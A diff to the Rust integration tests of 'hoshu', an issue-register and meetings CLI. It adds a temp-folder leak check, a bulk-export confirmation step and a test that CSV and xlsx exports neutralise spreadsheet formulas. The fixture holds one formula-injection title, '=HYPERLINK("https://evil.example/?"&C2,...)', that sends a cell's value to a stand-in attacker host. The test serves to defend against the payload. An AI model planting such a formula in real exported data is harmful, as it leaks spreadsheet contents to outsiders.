@@ -1,6 +1,7 @@
 //! `hoshu meetings list` and `hoshu register list` as scripts read them: exact CSV columns,
 //! codes and ISO dates, Japanese tables, and the policy, on SQLite and PostgreSQL.
 
+use calamine::Reader;
 use chrono::{NaiveDate, TimeZone};
 use hoshu_app::{Hoshu, ManualClock};
 use hoshu_core::Role;
@@ -13,14 +14,29 @@ use std::sync::Arc;
 
 const PASSWORD: &str = "correct-horse-1";
 
+/// Runs `hoshu` with a temporary folder of its own, and checks that it leaves nothing there.
 fn hoshu(args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_hoshu"))
+    let tmp = tempfile::tempdir().expect("temp folder");
+    let out = Command::new(env!("CARGO_BIN_EXE_hoshu"))
         .args(args)
         .env_remove("HOSHU_DB")
         .env("HOSHU_PASSWORD", PASSWORD)
+        .env("TMPDIR", tmp.path())
         .output()
-        .expect("run hoshu")
+        .expect("run hoshu");
+    let left: Vec<_> = std::fs::read_dir(tmp.path())
+        .expect("temp folder")
+        .map(|e| e.expect("entry").file_name())
+        .collect();
+    assert!(
+        left.is_empty(),
+        "hoshu {args:?} left {left:?} in its temp folder"
+    );
+    out
 }
+
+/// A title that runs as a formula when a spreadsheet opens it raw.
+const FORMULA_TITLE: &str = r#"=HYPERLINK("https://evil.example/?"&C2,"詳細")"#;
 
 fn stdout(o: &Output) -> String {
     String::from_utf8(o.stdout.clone()).expect("UTF-8 output")
@@ -125,6 +141,30 @@ async fn fixture(db: &TestDatabase) {
     )
     .await
     .unwrap();
+    h.add_register_item(
+        &se,
+        IssueInput {
+            raised_on: date(2026, 4, 16),
+            raised_by: "岡本 誠".into(),
+            category: IssueCategory::Operation,
+            title: FORMULA_TITLE.into(),
+            content: "表計算ソフトで開いても実行されないこと。".into(),
+            priority: IssuePriority::Low,
+            owner: "大西 亮".into(),
+            due: None,
+            status: IssueStatus::Open,
+            progress: String::new(),
+            completed_on: None,
+            meeting_id: None,
+            request_id: None,
+        },
+    )
+    .await
+    .unwrap();
+    // A file of more than three rows is a bulk export on this desk.
+    let mut settings = h.settings(&admin).await.unwrap();
+    settings.bulk_export_rows = 3;
+    h.update_settings(&admin, settings).await.unwrap();
     store.close().await;
 }
 
@@ -165,15 +205,63 @@ async fn scenario(backend: Backend) {
     );
     assert_eq!(lines.last(), Some(&"（全 2 件）"));
 
+    // Four rows: a bulk export here. Asked for, not written, until confirmed.
     let o = run("contractor", &["register", "list", "--format", "csv"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert_eq!(stdout(&o), "", "nothing leaves before the confirmation");
+    assert!(
+        stderr(&o).contains("課題管理表を4件書き出そうとしています（3件を超える一括出力）")
+            && stderr(&o).contains("--confirm-bulk"),
+        "{}",
+        stderr(&o)
+    );
+    let o = run(
+        "contractor",
+        &["register", "list", "--format", "csv", "--confirm-bulk"],
+    );
     assert!(o.status.success(), "{}", stderr(&o));
     assert_eq!(
         stdout(&o),
         "no,raised_on,title,status,owner,due\n\
          1,2026-04-08,外字運用ルールの整理,open,小川 健,2026-04-30\n\
          2,2026-04-13,外字運用ルールの整理,open,小川 健,2026-04-30\n\
-         3,2026-04-15,\"帳票改善（医療券, \"\"氏名欄\"\"）\",done,大西 亮,\n"
+         3,2026-04-15,\"帳票改善（医療券, \"\"氏名欄\"\"）\",done,大西 亮,\n\
+         4,2026-04-16,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&C2,\"\"詳細\"\")\",open,大西 亮,\n",
+        "the formula is neutralised with a leading quote"
     );
+
+    // The same title in the .xlsx: the text exactly as recorded, never a formula, marked
+    // with Excel's quote prefix so that editing the cell does not run it either.
+    let out = tempfile::tempdir().unwrap();
+    let xlsx = out.path().join("課題管理表.xlsx");
+    let o = run(
+        "contractor",
+        &[
+            "render",
+            "register",
+            "-o",
+            xlsx.to_str().unwrap(),
+            "--confirm-bulk",
+        ],
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
+    let cells = book.worksheet_range("課題管理表").unwrap();
+    let titles: Vec<String> = cells.rows().skip(3).map(|r| r[4].to_string()).collect();
+    assert!(titles.contains(&FORMULA_TITLE.to_owned()), "{titles:?}");
+    let formulas = book.worksheet_formula("課題管理表").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no formula in the workbook"
+    );
+    let styles = {
+        let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx).unwrap()).unwrap();
+        let mut text = String::new();
+        std::io::Read::read_to_string(&mut zip.by_name("xl/styles.xml").unwrap(), &mut text)
+            .unwrap();
+        text
+    };
+    assert!(styles.contains(r#"quotePrefix="1""#), "{styles}");
     let o = run(
         "chief",
         &["register", "list", "--format", "csv", "--status", "done"],
